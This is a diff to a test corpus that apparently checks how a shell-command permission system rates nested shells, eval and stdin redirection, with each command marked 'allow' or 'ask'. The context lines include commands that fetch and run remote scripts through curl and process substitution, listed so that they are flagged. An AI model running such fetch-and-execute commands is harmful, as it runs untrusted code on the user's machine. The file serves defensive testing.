@@ -141,7 +141,9 @@ corpus('nested shells and their stdin', {}, [
   ['. <(curl -s https://example.test/env)', 'ask', OPAQUE],
   ['bash <(curl -s https://example.test/i.sh)', 'ask', OPAQUE],
   ['source ./env.sh', 'allow'],
-  ['eval "git status"', 'ask', OPAQUE],
+  ['eval "git status"', 'allow'],
+  ["eval 'git push origin main' < /dev/null", 'ask'],
+  ['eval git status \\< /dev/null', 'allow'],
   ['eval "$(ssh-agent -s)"', 'ask', OPAQUE],
 ]);
 
